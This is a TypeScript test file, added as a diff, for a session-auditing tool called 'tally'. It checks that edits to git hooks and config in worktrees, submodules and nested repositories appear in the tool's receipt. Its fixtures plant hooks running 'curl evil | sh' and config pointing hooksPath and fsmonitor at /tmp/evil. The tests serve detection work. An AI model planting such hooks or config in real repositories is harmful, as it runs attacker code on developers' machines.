@@ -1,0 +1,172 @@
+/**
+ * git's own files of a work tree whose `.git` is a file (a linked worktree, a submodule) and of the
+ * repositories nested in a project: the config, hooks and info git reads for them lie outside the
+ * `.git` under the tree's top. Each test runs real sessions through `tally` in real repositories
+ * (`git worktree add`, `git submodule add`), plants what an agent would, and reads the receipt's
+ * rows and `tally verify`.
+ */
+import assert from 'node:assert/strict';
+import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { describe, it } from 'node:test';
+import { jsonOut, makeProject, type Project } from '../cli/tally-process.js';
+import { git, packageLines, packageReceipt } from './fixture.js';
+
+/** One session in `cwd` around `act`: the receipt's rows, the package verified by `tally verify`. */
+async function session(p: Project, cwd: string, act: () => void): Promise<{ rows: string[][]; pkg: Buffer }> {
+  assert.equal((await p.tally(['init'], { cwd })).code, 0);
+  const started = await p.tally(['session', 'start', '--json'], { cwd });
+  assert.equal(started.code, 0, started.stderr);
+  act();
+  const closed = await p.tally(['session', 'close', '--json'], { cwd });
+  assert.equal(closed.code, 0, closed.stderr);
+  const path = String(jsonOut(closed).package);
+  const verified = await p.tally(['verify', path, '--json'], { cwd });
+  assert.equal(verified.code, 0, verified.stdout);
+  const pkg = readFileSync(path);
+  const rows = packageReceipt(pkg)
+    .files_written.filter((row) => !row.path.startsWith('.tally/'))
+    .map((row) => [row.path, row.operation]);
+  return { rows, pkg };
+}
+
+/** `dev.tally.changes[path].location` of the reconcile pass's row for `path`. */
+function locationOf(pkg: Buffer, path: string): unknown {
+  for (const line of packageLines(pkg).slice(1, -1)) {
+    const envelope = JSON.parse(line.toString('utf8')) as { payload: string };
+    const record = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8')) as {
+      event: { type: string; extensions?: Record<string, Record<string, { location?: string }>> };
+    };
+    const facts = record.event.extensions?.['dev.tally.changes']?.[path];
+    if (record.event.type === 'file.changed' && facts !== undefined) return facts.location;
+  }
+  return undefined;
+}
+
+/** A repository of one commit at `dir`. */
+function repository(dir: string): void {
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, 'lib.txt'), 'lib\n');
+  git(dir, 'init', '-q');
+  git(dir, 'add', '.');
+  git(dir, 'commit', '-qm', 'lib');
+}
+
+describe("git's own files where the tree's .git is a file", () => {
+  it('a linked worktree: the common config and hooks, its config.worktree and its .git file are rows', async () => {
+    const p = makeProject('tally-git-dirs-worktree-');
+    const wt = join(p.dir, 'wt');
+    git(p.root, 'worktree', 'add', '-q', wt);
+    const common = join(p.root, '.git');
+    const own = join(common, 'worktrees', 'wt');
+    const { rows, pkg } = await session(p, wt, () => {
+      writeFileSync(join(common, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
+      appendFileSync(join(common, 'config'), '[core]\n\thooksPath = /tmp/evil\n');
+      writeFileSync(join(own, 'config.worktree'), '[core]\n\tfsmonitor = /tmp/evil\n');
+      // The same git directory, named another way: git still finds it; the file changed.
+      writeFileSync(join(wt, '.git'), `gitdir: ${relative(wt, own)}\n`);
+    });
+    assert.deepEqual(rows, [
+      ['.git', 'modified'],
+      ['.git/config', 'modified'],
+      ['.git/config.worktree', 'created'],
+      ['.git/hooks/pre-commit', 'created'],
+    ]);
+    assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(common, 'hooks', 'pre-commit'));
+    assert.equal(locationOf(pkg, '.git/config.worktree'), join(own, 'config.worktree'));
+  });
+
+  it('a linked worktree whose .git file is pointed elsewhere: the places of the start are compared', async () => {
+    const p = makeProject('tally-git-dirs-repointed-');
+    const wt = join(p.dir, 'wt');
+    git(p.root, 'worktree', 'add', '-q', wt);
+    const common = join(p.root, '.git');
+    const other = join(p.dir, 'other');
+    repository(other);
+    const { rows } = await session(p, wt, () => {
+      writeFileSync(join(common, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
+      writeFileSync(join(wt, '.git'), `gitdir: ${join(other, '.git')}\n`);
+    });
+    assert.deepEqual(
+      rows.filter(([path]) => path!.startsWith('.git')),
+      [
+        ['.git', 'modified'],
+        ['.git/hooks/post-checkout', 'created'],
+      ],
+    );
+  });
+
+  it("a submodule: the hooks in the superproject's .git/modules are rows", async () => {
+    const p = makeProject('tally-git-dirs-submodule-');
+    const lib = join(p.dir, 'lib');
+    repository(lib);
+    git(p.root, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'sub/lib');
+    git(p.root, 'commit', '-qm', 'submodule');
+    const root = join(p.root, 'sub', 'lib');
+    const dir = git(root, 'rev-parse', '--absolute-git-dir').trim();
+    assert.equal(dir, join(p.root, '.git', 'modules', 'sub', 'lib'));
+    const { rows, pkg } = await session(p, root, () => {
+      writeFileSync(join(dir, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
+      writeFileSync(join(dir, 'info', 'exclude'), 'hidden\n');
+    });
+    assert.deepEqual(rows, [
+      ['.git/hooks/pre-commit', 'created'],
+      ['.git/info/exclude', 'modified'],
+    ]);
+    assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(dir, 'hooks', 'pre-commit'));
+  });
+});
+
+describe("git's own files of repositories nested in the project", () => {
+  it('a nested clone and a submodule: their config, hooks and .git file are rows; a new repository is one', async () => {
+    const p = makeProject('tally-git-dirs-nested-');
+    repository(join(p.root, 'sub', 'b'));
+    const lib = join(p.dir, 'lib');
+    repository(lib);
+    git(p.root, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'sub/c');
+    git(p.root, 'commit', '-qm', 'submodule');
+    const c = join(p.root, '.git', 'modules', 'sub', 'c');
+    const { rows, pkg } = await session(p, p.root, () => {
+      writeFileSync(join(p.root, 'sub', 'b', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+      appendFileSync(join(p.root, 'sub', 'b', '.git', 'config'), '[core]\n\thooksPath = /tmp/evil\n');
+      writeFileSync(join(c, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil\n');
+      writeFileSync(join(p.root, 'sub', 'c', '.git'), `gitdir: ${c}\n`);
+      // A repository made during the session: its appearing is the row.
+      repository(join(p.root, 'new'));
+    });
+    assert.deepEqual(rows, [
+      ['new/.git', 'created'],
+      ['new/lib.txt', 'created'],
+      ['sub/b/.git/config', 'modified'],
+      ['sub/b/.git/hooks/pre-commit', 'created'],
+      ['sub/c/.git', 'modified'],
+      ['sub/c/.git/hooks/post-checkout', 'created'],
+    ]);
+    assert.equal(locationOf(pkg, 'sub/c/.git/hooks/post-checkout'), join(c, 'hooks', 'post-checkout'));
+    assert.equal(locationOf(pkg, 'sub/b/.git/hooks/pre-commit'), undefined);
+  });
+
+  it('past the nested repositories listed, the rest are counted and the package still verifies', async () => {
+    const p = makeProject('tally-git-dirs-many-');
+    // 101 repositories in breadth-first order: `r000`…`r099` are listed, `r100` is not.
+    for (let i = 0; i <= 100; i++) {
+      const dir = join(p.root, `r${String(i).padStart(3, '0')}`);
+      mkdirSync(dir);
+      git(dir, 'init', '-q');
+    }
+    const { rows, pkg } = await session(p, p.root, () => {
+      writeFileSync(join(p.root, 'r007', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+      writeFileSync(join(p.root, 'r100', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+    });
+    assert.deepEqual(rows, [['r007/.git/hooks/pre-commit', 'created']]);
+    const summary = packageLines(pkg)
+      .slice(1, -1)
+      .map((line) =>
+        JSON.parse(Buffer.from(JSON.parse(line.toString('utf8')).payload, 'base64').toString('utf8')),
+      )
+      .find((record) => record.event.type === 'tally.reconcile.summary').event.extensions[
+      'dev.tally.reconcile'
+    ];
+    assert.ok(summary.skipped >= 1, JSON.stringify(summary));
+  });
+});
